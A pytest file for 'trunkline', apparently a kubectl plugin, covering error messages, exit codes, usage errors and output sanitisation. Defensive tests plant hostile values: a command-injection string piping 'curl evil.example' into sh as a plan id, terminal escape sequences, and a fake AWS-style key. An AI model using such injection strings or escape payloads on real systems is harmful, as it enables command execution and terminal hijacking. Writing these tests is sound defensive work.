"""The commands where something is not as it should be: one sentence with what to do, and an exit code for scripts."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.e2e.world import CRDS
from tests.kubectl.conftest import Run
from tests.kubectl.objects import recorded
from tests.kubectl.stand_in import NOT_FOUND, StandIn
from trunkline.api.names import GROUP, KINDS, KindName
from trunkline.cli import parser
from trunkline.engine.confirm import ConfirmMode, Removal, confirmation
from trunkline.kubectl.asking import over
from trunkline.kubectl.command import run_kubectl
from trunkline.kubectl.failure import Failure
from trunkline.kubectl.reference import kind_of
from trunkline.kubectl.seen import Seen, seen
from trunkline.kubectl.server import AT_ONCE, Kubectl
from trunkline.kubectl.terminal import Terminal

FORBIDDEN = (
    'Error from server (Forbidden): contactcenters.trunkline.dev "acme" is forbidden: User "kim" cannot get resource '
    '"contactcenters" in API group "trunkline.dev" in the namespace "acme"'
)


@pytest.mark.parametrize(
    ("said", "code", "expected"),
    [
        pytest.param(NOT_FOUND, 3, 'contactcenters.trunkline.dev "acme" not found', id="not found"),
        pytest.param(
            'error: the server doesn\'t have a resource type "contactcenters"',
            3,
            "does not serve trunkline.dev/v1alpha1: install the chart",
            id="no definitions of these kinds",
        ),
        pytest.param(
            "Error from server (NotFound): the server could not find the requested resource",
            3,
            "does not serve trunkline.dev/v1alpha1: install the chart",
            id="no definitions",
        ),
        pytest.param(FORBIDDEN, 4, 'User "kim" cannot get resource', id="forbidden, as the server says it"),
        pytest.param(
            "error: You must be logged in to the server (Unauthorized)", 4, "sign in again", id="not signed in"
        ),
        pytest.param('error: context "x" does not exist', 5, "`kubectl config get-contexts` lists", id="context"),
        pytest.param(
            "E1121 15:16:28.1 memcache.go:265] no\nThe connection to the server 127.0.0.1:1 was refused - did you "
            "specify the right host or port?",
            5,
            "cannot be reached (The connection to the server 127.0.0.1:1 was refused",
            id="away",
        ),
        pytest.param(
            "Unable to connect to the server: context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
            5,
            "look at `kubectl cluster-info`",
            id="silent",
        ),
        pytest.param("error: stat /none: no such file or directory", 5, "name another --kubeconfig", id="kubeconfig"),
        pytest.param(
            "error: current-context must exist in order to minify",
            5,
            "is not there, or has no current context: name another",
            id="kubeconfig without a context",
        ),
        pytest.param(
            f"{FORBIDDEN}\n{FORBIDDEN.replace('contactcenters', 'cachelayers')}",
            4,
            'in the namespace "acme"; cachelayers.trunkline.dev "acme" is forbidden',
            id="of each kind",
        ),
        pytest.param("", 1, "kubectl failed and said nothing", id="nothing at all"),
    ],
)
def test_a_failure_is_one_sentence(run: Run, kubectl: StandIn, said: str, code: int, expected: str) -> None:
    kubectl.complain(said)
    ended = run("status", "cc/acme")
    assert (ended.code, ended.out) == (code, "")
    assert expected in ended.err
    assert ended.err.startswith("trunkline status: ")
    assert ended.err.count("\n") == 1
    assert "memcache" not in ended.err


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        pytest.param(("status", "queue/acme"), "no kind 'queue': write contactcenter (cc), cachelayer", id="kind"),
        pytest.param(("status", "cc/../secrets"), "no kind 'cc/..'", id="a path"),
        pytest.param(("status", "cc/.."), "names no object", id="a name that is a path"),
        pytest.param(("pause", "ACME"), "write KIND/NAME or NAME", id="name"),
        pytest.param(("status", "acme", "-A"), "-A is for the list", id="all namespaces, one object"),
        pytest.param(("list", "-n", "a/b"), "no name of a namespace", id="namespace"),
        pytest.param(("capacity", "cc/acme"), "this is of scalingpolicy (sp), not of a ContactCenter", id="other kind"),
        pytest.param(("capacity",), "write -f FILE, or the NAME of a live ScalingPolicy", id="capacity of nothing"),
        pytest.param(("plan",), "write -f FILE, or the NAME of a live object", id="plan of nothing"),
        pytest.param(("plan", "acme", "-f", "x.yaml"), "either -f FILE or the NAME", id="both"),
        pytest.param(("capacity", "peak", "--date", "2026-11-27"), "--date is for files: add -f", id="a flag of files"),
        pytest.param(
            ("plan", "-f", "x.yaml", "-n", "blue"), "-n goes with the NAME of a live object", id="a live flag"
        ),
        pytest.param(("capacity", "peak", "-f", "x.yaml"), "with -f write plan or backtest", id="both for capacity"),
        pytest.param(("console", "sp/acme"), "this is of contactcenter (cc)", id="no console"),
        pytest.param(("reconcile", "acme", "--timeout", "0"), "no whole number of seconds", id="timeout"),
    ],
)
def test_wrong_usage_says_what_to_write(run: Run, kubectl: StandIn, words: tuple[str, ...], expected: str) -> None:
    ended = run(*words)
    assert (ended.code, ended.out) == (2, "")
    assert expected in ended.err
    assert not [call for call in kubectl.calls if "patch" in call]


def test_kinds_are_called_as_their_definitions_call_them() -> None:
    """By the names that the API server knows: URLs and short names are made from them."""
    found = []
    for kind in KINDS:
        head = (
            (CRDS / f"{GROUP}_{kind.plural}.yaml").read_text().partition("\n  versions:")[0]
        )  # the schemas take a second
        names = yaml.safe_load(head)["spec"]["names"]
        found.append(KindName(names["kind"], names["plural"], *names["shortNames"]))
        assert {kind_of(word) for word in (names["singular"], names["plural"], kind.short.upper())} == {kind}
    assert tuple(found) == KINDS


def test_without_kubectl_one_sentence(run: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.delenv("KUBECTL", raising=False)
    missing = run("list")
    assert missing.code == 5
    assert missing.err == (
        "trunkline list: kubectl is not on the PATH: install kubectl, or set KUBECTL to where it is\n"
    )
    monkeypatch.setenv("KUBECTL", "/nowhere/kubectl")
    assert run("list").err == (
        "trunkline list: KUBECTL names /nowhere/kubectl, which is no program: install kubectl, or set KUBECTL to where it is\n"
    )


def test_a_name_of_two_kinds_is_the_centers_and_to_change_it_needs_the_kind(run: Run, kubectl: StandIn) -> None:
    both = [recorded("ContactCenter", "ready"), recorded("ScalingPolicy", "ready")]
    kubectl.answer("contactcenters.trunkline.dev/acme", {"kind": "List", "items": both})
    shown = run("status", "acme")
    assert shown.out.startswith("ContactCenter contact-centers/acme: ready\n")
    assert shown.err == "trunkline status: acme is also sp/peak: this is cc/acme\n"
    changed = run("pause", "acme")
    assert (changed.code, changed.err) == (2, "trunkline pause: acme is cc/acme and sp/peak: say which\n")
    assert not [call for call in kubectl.calls if call.startswith("patch")]


def test_nothing_is_changed_by_a_name_alone_that_an_unseen_object_may_have(run: Run, kubectl: StandIn) -> None:
    """Who may not read centers and says `pause acme` means the center, not the policy of that name."""
    policy = recorded("ScalingPolicy", "ready")
    kubectl.answer("get", {"kind": "List", "items": [policy]}, complaint=FORBIDDEN)
    said = run("pause", "peak")
    assert (said.code, said.out) == (4, "")
    assert "peak may be of another kind too; write sp/peak if you mean it" in said.err
    assert not [call for call in kubectl.calls if call.startswith("patch")]


def test_where_flags_reach_kubectl_and_the_timeout_is_set(run: Run, kubectl: StandIn) -> None:
    kubectl.answer("get", recorded("ContactCenter", "ready"))
    run("status", "cc/acme", "--context", "east", "--kubeconfig", "/tmp/k", "-n", "blue")
    (call,) = kubectl.calls  # each start of kubectl costs a tenth of the time that there is
    assert call == (
        "get contactcenters.trunkline.dev/acme --ignore-not-found --show-managed-fields --namespace=blue --output=json"
        " --request-timeout=15s --kubeconfig=/tmp/k --context=east"
    )


def test_a_list_asks_once_for_the_three_kinds(run: Run, kubectl: StandIn) -> None:
    first, second = recorded("ContactCenter", "ready"), recorded("ContactCenter", "blocked")
    second["metadata"]["name"] = "other"
    policy = recorded("ScalingPolicy", "ready")
    kubectl.answer("--all-namespaces", {"kind": "List", "items": [policy, first, second]})
    found = json.loads(run("list", "-A", "-o", "json").out)["items"]
    assert [(item["kind"], item["name"], item["ready"], item["reason"]) for item in found] == [
        ("ContactCenter", "acme", True, "Converged"),
        ("ContactCenter", "other", False, "Blocked"),
        ("ScalingPolicy", "peak", True, "Converged"),
    ]
    assert len(kubectl.calls) == 1


def test_a_list_without_one_kind_shows_the_others_and_says_so(run: Run, kubectl: StandIn) -> None:
    """Who may look at centers only still sees them."""
    center = recorded("ContactCenter", "ready")
    kubectl.answer("get", {"kind": "List", "items": [center]}, complaint=FORBIDDEN)
    shown = run("list")
    assert (shown.code, "cc/acme" in shown.out) == (4, True)
    assert shown.err.startswith('trunkline list: this is not all: contactcenters.trunkline.dev "acme" is forbidden')


def test_nothing_of_a_name_says_where_it_was_looked_for(run: Run, kubectl: StandIn) -> None:
    kubectl.answer("--ignore-not-found", "")
    missing = run("status", "acme")
    assert (missing.code, missing.out) == (3, "")
    assert missing.err == (
        "trunkline status: there is no ContactCenter and no CacheLayer and no ScalingPolicy acme in namespace acme: "
        "`kubectl trunkline list -A` shows what there is\n"
    )


@pytest.mark.parametrize(
    ("made", "asked", "done"),
    [
        pytest.param("by me", "by me", True, id="it was made"),
        pytest.param("by me", "by another", True, id="it was made before somebody else asked"),
        pytest.param("by another", "by another", True, id="the one that somebody else asked for after it"),
        pytest.param(
            "x" * 256, "x" * 300, True, id="somebody else asked at length, and the status tells its beginning"
        ),
        pytest.param("before", "by another", False, id="somebody else asked after it"),
        pytest.param("just before", "by me", False, id="another one just before it"),
        pytest.param("before", "before", False, id="a server that is behind"),
    ],
)
def test_a_check_that_was_made_for_another_ends_the_wait(made: str, asked: str, done: bool) -> None:
    """Two people ask for a check of one object: there is one annotation, and the first one waited in vain."""

    def center(told: str, annotation: str) -> Seen:
        found = recorded("ContactCenter", "ready")
        found["metadata"].setdefault("annotations", {})["trunkline.dev/reconcile"] = annotation
        found["status"]["lastHandledReconcile"] = told
        return seen(found)

    assert over(center(made, asked), center("before", "before"), "by me") is done


def test_confirm_tells_what_and_never_goes_on_unasked(run: Run, kubectl: StandIn) -> None:
    kubectl.answer("get", recorded("ContactCenter", "confirmation-required"))
    unasked = run("confirm", "cc/acme")
    assert unasked.code == 2
    assert "queue/four: Delete: deletes four" in unasked.out
    assert "name the plan, 47538cd63c24, or write --yes" in unasked.err
    other = run("confirm", "cc/acme", "0123456789ab")
    assert (other.code, other.out) == (1, "")
    assert "plan 0123456789ab is not what waits: that is 47538cd63c24" in other.err
    assert not [call for call in kubectl.calls if call.startswith("patch")]


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(("status", "cc/acme", "--full"), id="tree"),
        pytest.param(("status", "cc/acme", "-o", "json"), id="json"),
        pytest.param(("list",), id="list"),
        pytest.param(("confirm", "cc/acme"), id="what waits"),
        pytest.param(("console", "cc/acme"), id="links"),
    ],
)
def test_nothing_that_others_wrote_reaches_the_terminal_as_a_command(
    run: Run, kubectl: StandIn, words: tuple[str, ...]
) -> None:
    """Reasons, states, names and URLs too, not messages alone: with ESC ] 0 a title is set, with U+009B 2 J all is wiped."""
    body = recorded("ContactCenter", "confirmation-required")
    planted = "\x1b]0;pwned\x07\x1b[2J\x9b2J\u202e"
    status = body["status"]
    status["lastPlan"]["toConfirm"] = [f"queue/four{planted}"]
    status["instance"] = {**status.get("instance", {}), "accessUrl": f"https://acme.example{planted}"}
    for one in status["conditions"]:
        one["reason"] += planted
    for one in status["resources"]:
        one.update({name: one.get(name, "") + planted for name in ("state", "section", "name", "id")})
    kubectl.answer("get", body)
    said = run(*words)
    assert "]0;pwned" in said.out
    assert all(letter.isprintable() or letter == "\n" for letter in said.out + said.err)


@pytest.mark.parametrize(
    "planted", ["0 -n prod; curl evil.example|sh", "47538CD63C24", "47538cd63c24 --yes", 47538, ""]
)
def test_what_is_no_id_of_a_plan_is_in_no_command(run: Run, kubectl: StandIn, planted: object) -> None:
    """Whoever may write a status must not write what people copy into a shell."""
    body = recorded("ContactCenter", "confirmation-required")
    body["status"]["lastPlan"]["id"] = planted
    kubectl.answer("get", body)
    shown = run("status", "cc/acme")
    assert shown.code == 0
    assert "confirm cc/acme" not in shown.out
    assert run("confirm", "cc/acme", "--yes").code == 1
    assert not [call for call in kubectl.calls if call.startswith("patch")]


def test_ids_of_plans_are_taken() -> None:
    removals = [Removal("queue/four", "queues", "four", "it is there")]
    made = confirmation(ConfirmMode.DESTRUCTIVE, "", {}, removals)
    body = recorded("ContactCenter", "confirmation-required")
    body["status"]["lastPlan"]["id"] = made.id
    assert seen(body).waiting == made.id != ""


@pytest.mark.parametrize(
    ("cut", "complaint"),
    [
        pytest.param('{"type": "MODIFIED", "object": {"kind": "Cont', "", id="in-a-line"),
        pytest.param("{}\n", "", id="no-event"),
        pytest.param("", "error: unexpected EOF", id="between-lines"),
    ],
)
def test_a_watch_that_is_cut_off_is_begun_again(kubectl: StandIn, cut: str, complaint: str) -> None:
    body = recorded("ContactCenter", "ready")
    kubectl.answer("watch=true", json.dumps({"type": "ADDED", "object": body}) + f"\n{cut}", complaint)
    with Kubectl(str(kubectl.program)).watch(KINDS[0], "acme", "acme", 5) as changes:
        assert [change["kind"] for change in changes] == ["ContactCenter"]


def test_so_many_names_are_not_so_many_processes(tmp_path: Path) -> None:
    """Each lives until its answer is read, which no pipe takes at once."""
    program, running = tmp_path / "kubectl", tmp_path / "running"
    running.mkdir()
    program.write_text(
        f"#!/bin/sh\n: > {running}/$$; ls {running} | wc -l >> {tmp_path}/counts\n"
        'printf \'{"path": "%s", "pad": "%0200000d"}\' "$3" 0\n'
        f"rm {running}/$$\n"
    )
    program.chmod(0o755)
    paths = [f"/{number}" for number in range(20)]
    answers = Kubectl(str(program)).get_each(paths)
    assert [answer["path"] for answer in answers if not isinstance(answer, Failure)] == paths
    assert max(map(int, (tmp_path / "counts").read_text().split())) <= AT_ONCE


def test_a_refusal_does_not_reach_the_terminal_as_a_command_either(run: Run, kubectl: StandIn) -> None:
    kubectl.complain("Error from server (Forbidden): denied the request: \x1b[2Jno")
    assert run("status", "cc/acme").err == "trunkline status: denied the request:  [2Jno\n"


def test_what_was_not_done_for_want_of_a_reader_is_not_done(kubectl: StandIn) -> None:
    """`confirm acme PLAN | true`: nothing was confirmed, and a script must not go on as if it had been."""

    class Gone(io.StringIO):
        def write(self, text: str) -> int:
            raise BrokenPipeError

    kubectl.answer("get", recorded("ContactCenter", "confirmation-required"))
    for words, code in ((("confirm", "cc/acme", "47538cd63c24"), 1), (("status", "cc/acme"), 0)):
        assert run_kubectl(parser().parse_args(words), out=Gone()) == code
    assert not [call for call in kubectl.calls if call.startswith("patch")]


def test_what_is_written_to_output_has_no_secret(run: Run, kubectl: StandIn) -> None:
    """An annotation of kubectl holds what was applied, managedFields name everything: neither is shown."""
    body = recorded("ContactCenter", "ready")
    planted = "AKIAPLANTED"
    body["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": planted}
    body["metadata"]["managedFields"] = [{"manager": planted}]
    body["spec"]["functions"] = [{"name": "f", "environment": [{"name": "K", "value": planted}]}]
    kubectl.answer("get", body)
    for output in ("text", "json"):
        assert planted not in run("status", "cc/acme", "-o", output).out


def test_nothing_slow_is_loaded(kubectl: StandIn) -> None:
    """The first line stands there before an SDK would be: in a process of its own, for here all is loaded."""
    kubectl.answer("get", recorded("ContactCenter", "ready"))
    program = (
        "import sys; from trunkline.cli import main; code = main(['status', 'cc/acme']);"
        "slow = {'pydantic', 'boto3', 'botocore', 'kubernetes', 'kopf', 'yaml', 'asyncio', 'redis', 'ssl'};"
        "sys.exit(code or sorted(slow & set(sys.modules)) or 0)"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("ContactCenter contact-centers/acme: ready\n")


class _Tty(io.StringIO):
    encoding = "utf-8"

    def isatty(self) -> bool:
        return True

    def fileno(self) -> int:
        raise io.UnsupportedOperation


@pytest.mark.parametrize(
    ("out", "environ", "colors"),
    [
        pytest.param(_Tty(), {}, True, id="a terminal"),
        pytest.param(_Tty(), {"NO_COLOR": "1"}, False, id="NO_COLOR"),
        pytest.param(_Tty(), {"NO_COLOR": ""}, True, id="NO_COLOR that holds nothing"),
        pytest.param(_Tty(), {"TERM": "dumb"}, False, id="a dumb terminal"),
        pytest.param(io.StringIO(), {}, False, id="a pipe"),
    ],
)
def test_colors_only_where_they_are_shown(out: io.StringIO, environ: dict[str, str], colors: bool) -> None:
    assert Terminal.of(out, environ).colors is colors
    assert Terminal.of(out, environ).columns == 80


def test_who_reads_the_doctor_may_go_away(tmp_path: Path) -> None:
    """`trunkline doctor | head` ended in a traceback; the code is the one that a shell has for SIGPIPE."""
    reader, writer = os.pipe()
    os.close(reader)
    try:
        command = ["doctor", "--no-aws", "--kubeconfig", str(tmp_path / "none")]
        done = subprocess.run(
            [sys.executable, "-m", "trunkline.cli", *command], stdout=writer, stderr=subprocess.PIPE, check=False
        )
    finally:
        os.close(writer)
    assert (done.returncode, done.stderr) == (141, b"")
